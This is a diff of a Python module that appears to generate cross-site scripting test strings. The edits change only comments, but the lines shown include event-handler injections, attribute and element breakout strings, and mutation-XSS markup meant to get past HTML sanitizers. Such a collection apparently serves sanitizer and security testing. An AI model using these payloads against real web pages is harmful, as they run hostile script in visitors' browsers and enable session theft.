@@ -1,6 +1,6 @@
 """Texts that try to run a script on a page, each of which would call ``xss`` with its own number.
 
-``CALL`` stands for that call, ``TEXT`` for what a breakout sets free, ``SCHEME`` for an address.
+``CALL`` stands for that call, ``TEXT`` for what a breakout sets free, ``SCHEME`` for a URL.
 """
 
 from collections.abc import Iterator
@@ -58,7 +58,7 @@ _ELEMENTS = [
     "<a href='//x' onmouseover=CALL ping=//xss.invalid/0>x</a>",
     "<template shadowrootmode=open><img src=x onerror=CALL></template>",
 ]
-# How an element gets out of where a page puts a text.
+# Ways out of the element or attribute with a text.
 _BREAKOUTS = [
     '">TEXT',
     "'>TEXT",
@@ -88,7 +88,7 @@ _ATTRIBUTES = [
     '" \u00a0onload="CALL',
     '"\tonload="CALL"\n',
 ]
-# Trees that are parsed once as one thing and again as another.
+# Markup that is parsed differently the second time.
 _MUTATIONS = [
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CALL&gt;">',
     '<svg></p><style><a id="</style><img src=x onerror=CALL>">',
